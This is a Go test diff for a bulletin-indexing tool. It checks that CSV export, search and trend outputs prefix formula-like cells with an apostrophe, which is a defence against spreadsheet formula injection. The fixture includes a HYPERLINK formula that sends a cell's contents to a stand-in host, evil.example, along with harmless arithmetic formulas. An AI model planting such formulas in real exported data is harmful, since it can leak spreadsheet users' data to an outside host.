@@ -4,6 +4,8 @@ import (
 	"bufio"
 	"encoding/csv"
 	"encoding/json"
+	"os"
+	"path/filepath"
 	"reflect"
 	"slices"
 	"strings"
@@ -183,5 +185,85 @@ func TestExportErrors(t *testing.T) {
 	code, _, stderr := run(t, "export", "--index", dir, "--format", "jsonl")
 	if code != exitFailure || !strings.Contains(stderr, "/api/search") {
 		t.Errorf("export while serving: exit %d, %q; want a pointer to the API", code, stderr)
+	}
+}
+
+// formulaBulletin writes a bulletin whose headlines, bodies and a section
+// start with spreadsheet formulas (=, @, +, -) and returns its index.
+func formulaBulletin(t *testing.T) string {
+	t.Helper()
+	data, err := os.ReadFile("../../testdata/sample/bulletin-2021-014.txt")
+	if err != nil {
+		t.Fatal(err)
+	}
+	s := string(data)
+	for _, r := range [][2]string{
+		{"我市举办文明城区创建工作第一期培训班。", `=HYPERLINK("http://evil.example/?"&A1,"点击")我市举办文明城区创建工作第一期培训班。`},
+		{"海淀区永定路街道建立", "@SUM(1+1)海淀区永定路街道建立"},
+		{"近日,天安门", "+1+1近日,天安门"},
+		{"近日,重点站区", "-2+3近日,重点站区"},
+		{"【工作动态】", "【=1+2工作动态】"},
+	} {
+		if !strings.Contains(s, r[0]) {
+			t.Fatalf("sample bulletin lacks %q", r[0])
+		}
+		s = strings.Replace(s, r[0], r[1], 1)
+	}
+	src := filepath.Join(t.TempDir(), "bulletin-2021-014.txt")
+	if err := os.WriteFile(src, []byte(s), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	dir, _ := indexOf(t, src)
+	return dir
+}
+
+// checkNoFormula fails when a cell of the CSV out starts with a character
+// that a spreadsheet reads as a formula, and when fewer than min cells were
+// neutralised with a leading apostrophe.
+func checkNoFormula(t *testing.T, out string, min int) {
+	t.Helper()
+	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(out, "\uFEFF"))).ReadAll()
+	if err != nil {
+		t.Fatalf("csv: %v", err)
+	}
+	quoted := 0
+	for _, row := range rows {
+		for _, c := range row {
+			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
+				t.Errorf("cell starts with a formula character: %.40q", c)
+			}
+			if len(c) > 1 && c[0] == '\'' && strings.ContainsRune("=+-@\t\r", rune(c[1])) {
+				quoted++
+			}
+		}
+	}
+	if quoted < min {
+		t.Errorf("%d cells neutralised, want at least %d:\n%s", quoted, min, out)
+	}
+}
+
+// TestCSVFormulaCells checks that every CSV output (export of articles and
+// of issues, with and without --bom, search, trend) writes a leading ' before
+// cells that a spreadsheet would run as formulas.
+func TestCSVFormulaCells(t *testing.T) {
+	dir := formulaBulletin(t)
+	for _, tc := range []struct {
+		args []string
+		min  int // cells that must be neutralised
+	}{
+		// headline and body of four articles, the section of two
+		{[]string{"export", "--format", "csv"}, 10},
+		{[]string{"export", "--format", "csv", "--bom"}, 10},
+		{[]string{"search", "--format", "csv", "--limit", "10", "近日"}, 4},
+		{[]string{"search", "--format", "csv", "--limit", "10", "HYPERLINK"}, 2},
+		{[]string{"trend", "--format", "csv", "--split", "section", "近日"}, 1},
+	} {
+		t.Run(strings.Join(tc.args, " "), func(t *testing.T) {
+			code, out, stderr := run(t, append(tc.args, "--index", dir)...)
+			if code != 0 {
+				t.Fatalf("exit %d: %s", code, stderr)
+			}
+			checkNoFormula(t, out, tc.min)
+		})
 	}
 }
